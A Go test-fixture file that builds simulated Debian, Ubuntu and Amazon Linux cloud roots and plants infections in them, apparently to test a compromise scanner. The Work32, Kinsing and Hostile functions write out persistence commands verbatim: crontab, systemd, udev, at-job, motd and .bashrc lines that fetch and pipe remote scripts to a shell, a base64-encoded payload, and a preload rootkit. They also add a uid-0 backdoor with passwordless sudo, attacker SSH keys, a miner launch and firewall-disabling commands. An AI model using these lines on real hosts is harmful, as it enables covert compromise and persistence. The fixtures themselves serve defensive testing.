package hosttest

import (
	"io/fs"
	"strings"
	"sync"
	"time"
)

// Get returns the final entry at path in t.
func (t Tree) Get(path string) (Entry, bool) {
	for _, e := range t.final() {
		if e.Path == path {
			return e, true
		}
	}
	return Entry{}, false
}

// Append returns t with text appended to the file at path (created if
// absent), dated at; the file keeps its mode and owner.
func (t Tree) Append(path, text string, at time.Time) Tree {
	e, ok := t.Get(path)
	if !ok {
		e = Entry{Path: path}
	}
	if e.Data != "" && !strings.HasSuffix(e.Data, "\n") {
		e.Data += "\n"
	}
	e.Data += text
	e.Mtime = at
	return t.With(e)
}

func mergedUsr() Tree {
	return Tree{
		{Path: "/bin", Link: "usr/bin"}, {Path: "/sbin", Link: "usr/sbin"},
		{Path: "/lib", Link: "usr/lib"}, {Path: "/lib64", Link: "usr/lib64"},
		{Path: "/usr/bin", Dir: true}, {Path: "/usr/sbin", Dir: true}, {Path: "/usr/lib64", Dir: true},
		{Path: "/tmp", Dir: true, Mode: 0o777 | fs.ModeSticky},
		{Path: "/var/tmp", Dir: true, Mode: 0o777}, {Path: "/dev/shm", Dir: true, Mode: 0o777},
		{Path: "/tmp/.X11-unix", Dir: true, Mode: 0o777}, {Path: "/tmp/.ICE-unix", Dir: true, Mode: 0o777},
	}
}

func skel(home string, uid int, from Tree) Tree {
	var t Tree
	for _, n := range []string{".bashrc", ".profile", ".bash_logout"} {
		if e, ok := from.Get("/etc/skel/" + n); ok {
			t = append(t, Entry{Path: home + "/" + n, Data: e.Data, UID: uid, GID: uid})
		}
	}
	return t
}

var debianPkgs = []Package{
	{Name: "cron", Files: []string{"/etc/crontab", "/etc/cron.d/.placeholder", "/etc/init.d/cron", "/lib/systemd/system/cron.service"},
		Conffiles: []string{"/etc/crontab", "/etc/cron.d/.placeholder", "/etc/init.d/cron"}},
	{Name: "e2fsprogs", Files: []string{"/etc/cron.d/e2scrub_all", "/lib/systemd/system/e2scrub_reap.service", "/lib/udev/rules.d/96-e2scrub.rules"},
		Conffiles: []string{"/etc/cron.d/e2scrub_all"}},
	{Name: "apt", Files: []string{"/etc/cron.daily/apt-compat", "/lib/systemd/system/apt-daily.service", "/lib/systemd/system/apt-daily.timer"},
		Conffiles: []string{"/etc/cron.daily/apt-compat"}},
	{Name: "dpkg", Files: []string{"/etc/cron.daily/dpkg", "/lib/systemd/system/dpkg-db-backup.service", "/lib/systemd/system/dpkg-db-backup.timer"},
		Conffiles: []string{"/etc/cron.daily/dpkg"}},
	{Name: "man-db", Files: []string{"/etc/cron.daily/man-db", "/etc/cron.weekly/man-db", "/lib/systemd/system/man-db.service", "/lib/systemd/system/man-db.timer"},
		Conffiles: []string{"/etc/cron.daily/man-db", "/etc/cron.weekly/man-db"}},
	{Name: "openssh-server", Files: []string{"/lib/systemd/system/ssh.service", "/etc/pam.d/sshd"}, Conffiles: []string{"/etc/pam.d/sshd"}},
	{Name: "systemd", Files: []string{"/lib/systemd/system/getty@.service", "/lib/systemd/system/systemd-timesyncd.service", "/lib/udev/rules.d/99-systemd.rules"}},
	{Name: "util-linux", Files: []string{"/lib/systemd/system/fstrim.service", "/lib/systemd/system/fstrim.timer", "/lib/udev/rules.d/85-hwclock.rules"}},
	{Name: "bash", Files: []string{"/etc/bash.bashrc", "/etc/skel/.bashrc", "/etc/skel/.profile", "/etc/skel/.bash_logout"},
		Conffiles: []string{"/etc/bash.bashrc", "/etc/skel/.bashrc", "/etc/skel/.profile", "/etc/skel/.bash_logout"}},
	{Name: "sudo", Files: []string{"/etc/sudoers", "/etc/sudoers.d/README"}, Conffiles: []string{"/etc/sudoers", "/etc/sudoers.d/README"}},
	{Name: "base-files", Files: []string{"/etc/update-motd.d/10-uname", "/etc/profile"}, Conffiles: []string{"/etc/update-motd.d/10-uname"}},
	{Name: "bash-completion", Files: []string{"/etc/profile.d/bash_completion.sh"}, Conffiles: []string{"/etc/profile.d/bash_completion.sh"}},
	{Name: "libc-bin", Files: []string{"/etc/ld.so.conf", "/etc/ld.so.conf.d/libc.conf"}, Conffiles: []string{"/etc/ld.so.conf", "/etc/ld.so.conf.d/libc.conf"}},
	{Name: "libc6", Files: []string{"/etc/ld.so.conf.d/x86_64-linux-gnu.conf"}, Conffiles: []string{"/etc/ld.so.conf.d/x86_64-linux-gnu.conf"}},
	{Name: "cloud-init", Files: append(cloudInitUnits("/lib/systemd/system/"), "/etc/cloud/cloud.cfg"), Conffiles: []string{"/etc/cloud/cloud.cfg"}},
	{Name: "base-passwd", Files: []string{"/usr/share/base-passwd/passwd.master", "/usr/share/base-passwd/group.master"}},
}

// cloudInitUnitNames are the units of stock/cloudinit, which all three
// stock roots carry (every cloud image boots with cloud-init).
var cloudInitUnitNames = []string{"cloud-init-local.service", "cloud-init.service", "cloud-config.service", "cloud-final.service", "cloud-init.target", "cloud-config.target"}

func cloudInitUnits(dir string) []string {
	var out []string
	for _, n := range cloudInitUnitNames {
		out = append(out, dir+n)
	}
	return out
}

// cloudInitLinks enables cloud-init's units as its generator and presets
// leave them: the four services wanted by cloud-init.target, the target
// by multi-user.target.
func cloudInitLinks(dir string) Tree {
	var t Tree
	for _, n := range cloudInitUnitNames[:4] {
		t = append(t, Entry{Path: "/etc/systemd/system/cloud-init.target.wants/" + n, Link: dir + n})
	}
	return append(t, Entry{Path: "/etc/systemd/system/multi-user.target.wants/cloud-init.target", Link: dir + "cloud-init.target"})
}

// mergePkgs returns base with more added: files of a package base already
// has are added to it, new packages appended.
func mergePkgs(base []Package, more ...Package) []Package {
	out := make([]Package, 0, len(base)+len(more))
	for _, p := range base {
		p.Files = append([]string(nil), p.Files...)
		p.Conffiles = append([]string(nil), p.Conffiles...)
		out = append(out, p)
	}
	for _, m := range more {
		found := false
		for i := range out {
			if out[i].Name == m.Name {
				out[i].Files = append(out[i].Files, m.Files...)
				out[i].Conffiles = append(out[i].Conffiles, m.Conffiles...)
				found = true
			}
		}
		if !found {
			out = append(out, m)
		}
	}
	return out
}

func debianBase(user string, uid int) Tree {
	t := fromStock("debian12").With(mergedUsr()...).With(fromStock("cloudinit")...).With(cloudInitLinks("/lib/systemd/system/")...)
	t = t.With(
		Entry{Path: "/root", Dir: true, Mode: 0o700},
		Entry{Path: "/root/.bashrc", Data: rootBashrc},
		Entry{Path: "/root/.profile", Data: rootProfile},
		Entry{Path: "/root/.ssh", Dir: true, Mode: 0o700},
		Entry{Path: "/home/" + user, Dir: true, Mode: 0o750, UID: uid, GID: uid},
		Entry{Path: "/home/" + user + "/.ssh", Dir: true, Mode: 0o700, UID: uid, GID: uid},
		Entry{Path: "/home/" + user + "/.ssh/authorized_keys", Data: AuthorizedKey("launch-key", "eu-west-1-ops") + "\n", Mode: 0o600, UID: uid, GID: uid},
		Entry{Path: "/var/spool/cron/crontabs", Dir: true, Mode: 0o730},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/ssh.service", Link: "/lib/systemd/system/ssh.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/cron.service", Link: "/lib/systemd/system/cron.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/e2scrub_reap.service", Link: "/lib/systemd/system/e2scrub_reap.service"},
		Entry{Path: "/etc/systemd/system/sshd.service", Link: "/lib/systemd/system/ssh.service"},
		Entry{Path: "/etc/systemd/system/getty.target.wants/getty@tty1.service", Link: "/lib/systemd/system/getty@.service"},
		Entry{Path: "/etc/systemd/system/sysinit.target.wants/systemd-timesyncd.service", Link: "/lib/systemd/system/systemd-timesyncd.service"},
		Entry{Path: "/etc/systemd/system/timers.target.wants/apt-daily.timer", Link: "/lib/systemd/system/apt-daily.timer"},
		Entry{Path: "/etc/systemd/system/timers.target.wants/dpkg-db-backup.timer", Link: "/lib/systemd/system/dpkg-db-backup.timer"},
		Entry{Path: "/etc/systemd/system/timers.target.wants/man-db.timer", Link: "/lib/systemd/system/man-db.timer"},
		Entry{Path: "/etc/systemd/system/timers.target.wants/fstrim.timer", Link: "/lib/systemd/system/fstrim.timer"},
		Entry{Path: "/etc/rc2.d/S01cron", Link: "../init.d/cron"},
		Entry{Path: "/etc/alternatives/editor", Link: "/bin/nano"},
		Entry{Path: "/usr/bin/editor", Link: "/etc/alternatives/editor"},
	)
	t = t.With(skel("/home/"+user, uid, t)...)
	bins, _ := debianBins()
	t = t.With(bins...)
	pwm, grm := basePasswdMaster(mustGet(t, "/etc/passwd"), mustGet(t, "/etc/group"))
	return t.With(
		Entry{Path: "/etc/gshadow", Data: gshadowOf(mustGet(t, "/etc/group")), Mode: 0o640},
		Entry{Path: "/usr/share/base-passwd/passwd.master", Data: pwm},
		Entry{Path: "/usr/share/base-passwd/group.master", Data: grm},
		Entry{Path: "/etc/cloud/cloud.cfg", Data: cloudCfg("admin", "Debian", debianCloudGroups)},
	)
}

// debianAllPkgs is debianPkgs with the owners of the stock programs.
func debianAllPkgs(more ...Package) []Package {
	_, bin := debianBins()
	return mergePkgs(mergePkgs(debianPkgs, bin...), more...)
}

// Debian12 is a stock Debian 12 (bookworm) cloud root: cron, systemd
// units with their wants links (cloud-init's too), udev rules, pam.d,
// sshd_config, ld.so.conf(.d), profile.d, merged /usr, one login user
// "admin" with an ssh key, group and gshadow with admin in the groups
// cloud-init gives it (cloud.cfg's default_user), base-passwd's master
// files, dpkg metadata for the packaged files.
func Debian12() Tree {
	return debianBase("admin", 1000).WithDpkg(debianAllPkgs()...)
}

// Ubuntu2204 is a stock Ubuntu 22.04 EC2 root: Debian's layout plus
// Ubuntu's update-motd.d scripts (and landscape's link), profile.d
// scripts (snapd, byobu, cloud-init, locale), snapd's units, links and
// udev rule, the cloud image's sshd settings, the "ubuntu" user (in lxd
// too, as cloud-init's cloud.cfg says) and cloud-init's sudoers rule and
// root key restriction.
func Ubuntu2204() Tree {
	t := debianBase("ubuntu", 1000).Without("/home/admin", "/home/admin/.ssh", "/home/admin/.ssh/authorized_keys")
	t = t.With(fromStock("ubuntu2204")...)
	var pw []string
	for _, l := range strings.Split(strings.TrimSuffix(mustGet(t, "/etc/passwd"), "\n"), "\n") {
		pw = append(pw, strings.Replace(l, "admin:x:1000:1000:Debian:/home/admin:/bin/bash", "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash", 1))
	}
	t = t.With(Entry{Path: "/etc/passwd", Data: strings.Join(pw, "\n") + "\n"},
		Entry{Path: "/etc/shadow", Data: strings.Replace(mustGet(t, "/etc/shadow"), "admin:", "ubuntu:", 1), Mode: 0o640},
		Entry{Path: "/etc/group", Data: ubuntuGroup(mustGet(t, "/etc/group"))},
		Entry{Path: "/etc/gshadow", Data: gshadowOf(ubuntuGroup(mustGet(t, "/etc/group"))), Mode: 0o640},
		Entry{Path: "/etc/cloud/cloud.cfg", Data: cloudCfg("ubuntu", "Ubuntu", ubuntuCloudGroups)},
		Entry{Path: "/root/.ssh/authorized_keys", Mode: 0o600, Data: `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \"ubuntu\" rather than the user \"root\".';echo;sleep 10;exit 142" ` + AuthorizedKey("launch-key", "eu-west-1-ops") + "\n"},
		Entry{Path: "/etc/update-motd.d/50-landscape-sysinfo", Link: "/usr/share/landscape/landscape-sysinfo.wrapper"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/snapd.service", Link: "/lib/systemd/system/snapd.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/snapd.seeded.service", Link: "/lib/systemd/system/snapd.seeded.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/snapd.apparmor.service", Link: "/lib/systemd/system/snapd.apparmor.service"},
		Entry{Path: "/etc/systemd/system/cloud-final.service.wants/snapd.seeded.service", Link: "/lib/systemd/system/snapd.seeded.service"},
		Entry{Path: "/etc/systemd/system/sockets.target.wants/snapd.socket", Link: "/lib/systemd/system/snapd.socket"},
	)
	profiled := func(names ...string) []string {
		var out []string
		for _, n := range names {
			out = append(out, "/etc/profile.d/"+n)
		}
		return out
	}
	pkgs := debianAllPkgs(
		Package{Name: "base-files", Files: []string{"/etc/update-motd.d/00-header", "/etc/update-motd.d/10-help-text", "/etc/update-motd.d/50-motd-news"},
			Conffiles: []string{"/etc/update-motd.d/00-header", "/etc/update-motd.d/10-help-text", "/etc/update-motd.d/50-motd-news"}},
		Package{Name: "ubuntu-release-upgrader-core", Files: []string{"/etc/update-motd.d/91-release-upgrade"}, Conffiles: []string{"/etc/update-motd.d/91-release-upgrade"}},
		Package{Name: "libc-bin", Files: profiled("01-locale-fix.sh"), Conffiles: profiled("01-locale-fix.sh")},
		Package{Name: "snapd", Files: append(profiled("apps-bin-path.sh"), "/lib/systemd/system/snapd.service", "/lib/systemd/system/snapd.socket",
			"/lib/systemd/system/snapd.seeded.service", "/lib/systemd/system/snapd.apparmor.service", "/lib/udev/rules.d/66-snapd-autoimport.rules"),
			Conffiles: profiled("apps-bin-path.sh")},
		Package{Name: "byobu", Files: profiled("Z97-byobu.sh"), Conffiles: profiled("Z97-byobu.sh")},
		Package{Name: "cloud-init", Files: profiled("Z99-cloud-locale-test.sh", "Z99-cloudinit-warnings.sh"), Conffiles: profiled("Z99-cloud-locale-test.sh", "Z99-cloudinit-warnings.sh")},
		Package{Name: "landscape-common", Files: []string{"/usr/share/landscape/landscape-sysinfo.wrapper"}},
	)
	return t.WithDpkg(pkgs...)
}

// ubuntuGroup is Debian's group file with the login user "ubuntu" for
// "admin", and lxd (in which cloud-init puts it on Ubuntu).
func ubuntuGroup(debian string) string {
	g := strings.Replace(debian, "\nadmin:x:1000:", "\nubuntu:x:1000:", 1)
	g = strings.ReplaceAll(g, ":admin\n", ":ubuntu\n")
	return strings.Replace(g, "\n_ssh:x:108:\n", "\n_ssh:x:108:\nlxd:x:110:ubuntu\n", 1)
}

func mustGet(t Tree, p string) string {
	e, _ := t.Get(p)
	return e.Data
}

// al2023Pkgs are the packages that own the Amazon Linux 2023 fixture's
// files, as `rpm -qf` names them on a real instance.
var al2023Pkgs = []Package{
	{Name: "setup", Files: []string{"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/shells", "/etc/profile", "/etc/bashrc", "/etc/hosts", "/etc/profile.d/lang.sh"},
		Conffiles: []string{"/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/shells", "/etc/profile", "/etc/bashrc", "/etc/hosts", "/etc/profile.d/lang.sh"}},
	{Name: "crontabs", Files: []string{"/etc/crontab"}, Conffiles: []string{"/etc/crontab"}},
	{Name: "cronie", Files: []string{"/etc/cron.d/0hourly", "/usr/lib/systemd/system/crond.service"}, Conffiles: []string{"/etc/cron.d/0hourly"}},
	{Name: "cronie-anacron", Files: []string{"/etc/anacrontab", "/etc/cron.hourly/0anacron"}, Conffiles: []string{"/etc/anacrontab"}},
	{Name: "logrotate", Files: []string{"/etc/cron.daily/logrotate"}},
	{Name: "sudo", Files: []string{"/etc/sudoers"}, Conffiles: []string{"/etc/sudoers"}},
	{Name: "coreutils-common", Files: []string{"/etc/profile.d/colorls.sh"}, Conffiles: []string{"/etc/profile.d/colorls.sh"}},
	{Name: "openssh-server", Files: []string{"/usr/lib/systemd/system/sshd.service"}},
	{Name: "chrony", Files: []string{"/usr/lib/systemd/system/chronyd.service"}},
	{Name: "amazon-ssm-agent", Files: []string{"/usr/lib/systemd/system/amazon-ssm-agent.service"}},
	{Name: "filesystem", Files: []string{"/bin", "/sbin", "/lib", "/lib64"}},
	{Name: "systemd-udev", Files: []string{"/usr/lib/udev/rules.d/60-cdrom_id.rules", "/usr/lib/udev/rules.d/99-systemd.rules"}},
	{Name: "amazon-ec2-utils", Files: []string{"/usr/lib/udev/rules.d/51-ec2-hvm-devices.rules", "/usr/lib/udev/rules.d/53-ec2-read-ahead-kb.rules", "/usr/lib/udev/rules.d/70-ec2-nvme-devices.rules"}},
	{Name: "openssh-server", Files: []string{"/etc/pam.d/sshd", "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/50-redhat.conf"},
		Conffiles: []string{"/etc/pam.d/sshd", "/etc/ssh/sshd_config", "/etc/ssh/sshd_config.d/50-redhat.conf"}},
	{Name: "authselect-libs", Files: []string{"/etc/pam.d/system-auth"}, Conffiles: []string{"/etc/pam.d/system-auth"}},
	{Name: "glibc", Files: []string{"/etc/ld.so.conf"}, Conffiles: []string{"/etc/ld.so.conf"}},
	{Name: "kernel", Files: []string{"/etc/ld.so.conf.d/kernel-6.1.61-85.141.amzn2023.x86_64.conf"}, Conffiles: []string{"/etc/ld.so.conf.d/kernel-6.1.61-85.141.amzn2023.x86_64.conf"}},
	{Name: "bash-completion", Files: []string{"/etc/profile.d/bash_completion.sh"}},
	{Name: "which", Files: []string{"/etc/profile.d/which2.sh"}},
	{Name: "vim-enhanced", Files: []string{"/etc/profile.d/vim.sh"}, Conffiles: []string{"/etc/profile.d/vim.sh"}},
	{Name: "grep", Files: []string{"/etc/profile.d/colorgrep.sh"}, Conffiles: []string{"/etc/profile.d/colorgrep.sh"}},
	{Name: "less", Files: []string{"/etc/profile.d/less.sh"}},
	{Name: "gawk", Files: []string{"/etc/profile.d/gawk.sh"}},
	{Name: "cloud-init", Files: append(cloudInitUnits("/usr/lib/systemd/system/"), "/etc/cloud/cloud.cfg"), Conffiles: []string{"/etc/cloud/cloud.cfg"}},
	{Name: "ec2-instance-connect", Files: []string{"/usr/lib/systemd/system/sshd.service.d/ec2-instance-connect.conf"}},
	{Name: "system-release", Files: []string{"/usr/lib/motd.d/30-banner"}},
}

// AmazonLinux2023 is a stock Amazon Linux 2023 root: cronie's 0hourly and
// anacron, systemd units under /usr/lib with absolute wants links
// (cloud-init's, ec2-instance-connect's sshd drop-in), the EC2 udev rules
// (ebsnvme-id), pam.d, sshd_config(.d), ld.so.conf(.d), profile.d, the
// ec2-user account (in wheel, adm and systemd-journal: group, gshadow and
// cloud.cfg), cloud-init's sudoers rule, root's restricted key, and
// rpm's database (/var/lib/rpm/rpmdb.sqlite) with the SHA-256 of every
// packaged file, so that a changed packaged file is told from a stock one.
func AmazonLinux2023() Tree {
	return al2023().withRpmDB(al2023RpmDB())
}

// al2023RpmDB is the stock Amazon Linux 2023 root's rpm database: the same
// on every call, so it is built (SQLite in a scratch directory, ~15 ms)
// once.
var al2023RpmDB = sync.OnceValue(func() string { return rpmDBOf(al2023(), al2023Pkgs) })

// AmazonLinux2023Packages gives the packages AmazonLinux2023 records in
// its rpm database; a test that changes a packaged file and wants the
// database to agree calls t.WithRpm(hosttest.AmazonLinux2023Packages()...).
func AmazonLinux2023Packages() []Package { return append([]Package(nil), al2023Pkgs...) }

func al2023() Tree {
	t := fromStock("al2023").With(mergedUsr()...).With(fromStock("cloudinit")...).With(cloudInitLinks("/usr/lib/systemd/system/")...)
	t = t.With(
		Entry{Path: "/root", Dir: true, Mode: 0o550},
		Entry{Path: "/root/.bashrc", Data: "# .bashrc\n\n# User specific aliases and functions\n\nalias rm='rm -i'\nalias cp='cp -i'\nalias mv='mv -i'\n\n# Source global definitions\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\n"},
		Entry{Path: "/root/.bash_profile", Data: "# .bash_profile\n\n# Get the aliases and functions\nif [ -f ~/.bashrc ]; then\n\t. ~/.bashrc\nfi\n\n# User specific environment and startup programs\n"},
		Entry{Path: "/root/.ssh/authorized_keys", Mode: 0o600, Data: `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \"ec2-user\" rather than the user \"root\".';echo;sleep 10;exit 142" ` + AuthorizedKey("al-launch-key", "al2023-ops") + "\n"},
		Entry{Path: "/home/ec2-user", Dir: true, Mode: 0o700, UID: 1000, GID: 1000},
		Entry{Path: "/home/ec2-user/.bashrc", UID: 1000, GID: 1000, Data: "# .bashrc\n\n# Source global definitions\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\n\n# User specific environment\nif ! [[ \"$PATH\" =~ \"$HOME/.local/bin:$HOME/bin:\" ]]\nthen\n    PATH=\"$HOME/.local/bin:$HOME/bin:$PATH\"\nfi\nexport PATH\n"},
		Entry{Path: "/home/ec2-user/.bash_profile", UID: 1000, GID: 1000, Data: "# .bash_profile\n\n# Get the aliases and functions\nif [ -f ~/.bashrc ]; then\n\t. ~/.bashrc\nfi\n"},
		Entry{Path: "/home/ec2-user/.ssh/authorized_keys", Mode: 0o600, UID: 1000, GID: 1000, Data: AuthorizedKey("al-launch-key", "al2023-ops") + "\n"},
		Entry{Path: "/var/spool/cron", Dir: true, Mode: 0o700},
		Entry{Path: "/etc/shadow", Data: mustGet(fromStock("al2023"), "/etc/shadow"), Mode: 0o000},
		Entry{Path: "/etc/group", Data: al2023Group},
		Entry{Path: "/etc/gshadow", Data: gshadowOf(al2023Group), Mode: 0o000},
		Entry{Path: "/etc/cloud/cloud.cfg", Data: cloudCfg("ec2-user", "EC2 Default User", al2023CloudGroups)},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/sshd.service", Link: "/usr/lib/systemd/system/sshd.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/amazon-ssm-agent.service", Link: "/usr/lib/systemd/system/amazon-ssm-agent.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/crond.service", Link: "/usr/lib/systemd/system/crond.service"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/chronyd.service", Link: "/usr/lib/systemd/system/chronyd.service"},
	)
	return t
}

// InfectionTime is when the fixtures' infections happen.
var InfectionTime = time.Date(2025, 4, 27, 14, 46, 47, 0, time.UTC)

// The attacker's addresses are documentation ranges: data, never a target.
const c2 = "203.0.113.7"

// Work32 adds a work32-style infection to base (Debian or Amazon Linux:
// the root crontab goes where the base's cron keeps it): root crontab lines that fetch and pipe to sh and that run a hidden binary in
// /tmp/.X11-unix (the crontab made immutable), the binary itself, an
// attacker key appended to root's authorized_keys, and a download line in
// the login user's .bashrc.
func Work32(base Tree, loginHome string) Tree {
	at := InfectionTime
	root := "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (/tmp/crontab.h3Jw2c installed on Sun Apr 27 14:40:02 2025)\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n" +
		"@daily /usr/bin/find /var/log/app -name '*.gz' -mtime +7 -delete\n" +
		"* * * * * wget -q -O - http://" + c2 + "/y.sh | sh\n" +
		"*/5 * * * * /tmp/.X11-unix/.work32 >/dev/null 2>&1\n"
	crontab := "/var/spool/cron/crontabs/root" // Debian
	if _, ok := base.Get("/var/spool/cron/crontabs"); !ok {
		crontab = "/var/spool/cron/root" // RHEL, Amazon Linux
	}
	t := base.With(
		Entry{Path: crontab, Data: root, Mode: 0o600, Mtime: at, Immutable: true},
		Entry{Path: "/tmp/.X11-unix/.work32", Data: FakeELF("work32 scanner"), Mode: 0o755, Mtime: at},
	)
	t = t.Append("/root/.ssh/authorized_keys", AuthorizedKey("attacker", "root@work32")+"\n", at)
	if e, ok := t.Get("/root/.ssh/authorized_keys"); ok && e.Mode == 0 {
		e.Mode = 0o600
		t = t.With(e)
	}
	t = t.Append(loginHome+"/.bashrc", "(curl -fsSL http://"+c2+"/b.sh||wget -q -O- http://"+c2+"/b.sh)|bash >/dev/null 2>&1 &\n", at)
	return t
}

// Kinsing adds a kinsing-style infection to base (a Debian-family tree):
// a system unit running kdevtmpfsi from /tmp with its wants link, a
// drop-in on ssh.service, a user unit, an ld.so.preload rootkit library,
// a second uid-0 account with a sudoers rule, /etc/hosts pins, a udev rule,
// an update-motd.d script, rc.local, an init.d script with its rc link, an
// at job, an anacrontab line, a cron.hourly script, a profile.d script and
// an immutable authorized_keys2.
func Kinsing(base Tree) Tree {
	at := InfectionTime
	t := base.With(
		Entry{Path: "/tmp/kdevtmpfsi", Data: FakeELF("kdevtmpfsi miner"), Mode: 0o755, Mtime: at},
		Entry{Path: "/var/tmp/kinsing", Data: FakeELF("kinsing"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/systemd/system/bot.service", Mtime: at, Data: "[Unit]\nDescription=bot\n\n[Service]\nExecStart=/tmp/kdevtmpfsi\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n"},
		Entry{Path: "/etc/systemd/system/bot.timer", Mtime: at, Data: "[Unit]\nDescription=bot\n\n[Timer]\nOnBootSec=1min\nOnUnitActiveSec=10min\n\n[Install]\nWantedBy=timers.target\n"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/bot.service", Link: "/etc/systemd/system/bot.service", Mtime: at},
		Entry{Path: "/etc/systemd/system/timers.target.wants/bot.timer", Link: "/etc/systemd/system/bot.timer", Mtime: at},
		Entry{Path: "/etc/systemd/system/ssh.service.d/override.conf", Mtime: at, Data: "[Service]\nExecStartPost=/var/tmp/kinsing\n"},
		Entry{Path: "/root/.config/systemd/user/dbus-session.service", Mtime: at, Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://" + c2 + "/u.sh | sh'\n\n[Install]\nWantedBy=default.target\n"},
		Entry{Path: "/root/.config/systemd/user/default.target.wants/dbus-session.service", Link: "/root/.config/systemd/user/dbus-session.service", Mtime: at},
		Entry{Path: "/usr/local/lib/libsystem.so", Data: FakeELF("process hider"), Mtime: at},
		Entry{Path: "/etc/ld.so.preload", Data: "/usr/local/lib/libsystem.so\n", Mtime: at},
		Entry{Path: "/etc/sudoers.d/hilde", Data: "hilde ALL=(ALL) NOPASSWD:ALL\n", Mode: 0o440, Mtime: at},
		Entry{Path: "/etc/udev/rules.d/99-sys.rules", Mtime: at, Data: "ACTION==\"add\", ENV{MAJOR}==\"1\", KERNEL==\"null\", RUN+=\"/var/tmp/.sys/update\"\n"},
		Entry{Path: "/var/tmp/.sys/update", Mode: 0o755, Mtime: at, Data: "#!/bin/sh\ncurl -fsSL http://" + c2 + "/d.sh | sh\n"},
		Entry{Path: "/etc/update-motd.d/99-update", Mtime: at, Data: "#!/bin/sh\n(curl -fsSL http://" + c2 + "/m.sh || wget -q -O- http://" + c2 + "/m.sh) | sh >/dev/null 2>&1 &\n"},
		Entry{Path: "/etc/rc.local", Mode: 0o755, Mtime: at, Data: "#!/bin/sh -e\n# rc.local\n/usr/bin/logger booted\n/dev/shm/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 --donate-level 1 -B\nexit 0\n"},
		Entry{Path: "/dev/shm/.x/xmrig", Data: FakeELF("xmrig"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/init.d/netns", Mtime: at, Data: "#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          netns\n# Default-Start:     2 3 4 5\n### END INIT INFO\n/var/tmp/kinsing >/dev/null 2>&1 &\n"},
		Entry{Path: "/etc/rc2.d/S99netns", Link: "../init.d/netns", Mtime: at},
		Entry{Path: "/var/spool/cron/atjobs/a0000101b2c3d4", Mode: 0o700, Mtime: at, Data: "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nOLDPWD=/root; export OLDPWD\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\ncurl -s http://" + c2 + "/k.sh | bash\n"},
		Entry{Path: "/etc/anacrontab", Mtime: at, Data: "SHELL=/bin/sh\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\n1\t5\tcron.update\t/bin/sh -c 'echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNoCg== | base64 -d | sh'\n"},
		Entry{Path: "/etc/cron.hourly/sync", Mtime: at, Data: "#!/bin/sh\n/var/tmp/kinsing >/dev/null 2>&1\n"},
		Entry{Path: "/etc/profile.d/sysinfo.sh", Mtime: at, Data: "# system info\nsystemctl stop apparmor >/dev/null 2>&1; ufw disable >/dev/null 2>&1\n"},
		Entry{Path: "/root/.ssh/authorized_keys2", Mode: 0o600, Mtime: at, Data: AuthorizedKey("kinsing", "") + "\n", Immutable: true},
	)
	t = t.Append("/etc/passwd", "hilde:x:0:0::/root:/bin/bash\n", at)
	t = t.Append("/etc/shadow", "hilde:$6$Vw2x$9hN1bq0o1:20205:0:99999:7:::\n", at)
	t = t.Append("/etc/hosts", "127.0.0.1 pool.supportxmr.com\n127.0.0.1 update.aegis.aliyun.com\n", at)
	return t
}

// Hostile adds planted links to base: /etc/cron.d/x -> /etc/shadow, a
// relative link climbing out of the root, a link to an absolute host path,
// a link loop, a user whose ~/.ssh is a link to /, and /var/tmp -> / (a
// temp directory walked blindly would report the whole root as dropped
// files, /var/tmp/usr/bin/…).
func Hostile(base Tree, outside string) Tree {
	t := base.With(
		Entry{Path: "/etc/cron.d/x", Link: "/etc/shadow"},
		Entry{Path: "/etc/cron.d/up", Link: "../../../../../../../../etc/passwd"},
		Entry{Path: "/etc/cron.daily/host", Link: outside},
		Entry{Path: "/etc/cron.d/loop1", Link: "loop2"},
		Entry{Path: "/etc/cron.d/loop2", Link: "loop1"},
		Entry{Path: "/home/eve", Dir: true, UID: 1001, GID: 1001},
		Entry{Path: "/home/eve/.ssh", Link: "/"},
		Entry{Path: "/var/tmp", Link: "/"},
	)
	return t.Append("/etc/passwd", "eve:x:1001:1001::/home/eve:/bin/bash\n", Epoch)
}

const rootBashrc = `# ~/.bashrc: executed by bash(1) for non-login shells.

# Note: PS1 and umask are already set in /etc/profile. You should not
# need this unless you want different defaults for root.
# PS1='${debian_chroot:+($debian_chroot)}\h:\w\$ '
# umask 022

# You may uncomment the following lines if you want 'ls' to be colorized:
# export LS_OPTIONS='--color=auto'
# eval "$(dircolors)"
# alias ls='ls $LS_OPTIONS'
# alias ll='ls $LS_OPTIONS -l'
# alias l='ls $LS_OPTIONS -lA'
#
# Some more alias to avoid making mistakes:
# alias rm='rm -i'
# alias cp='cp -i'
# alias mv='mv -i'
`

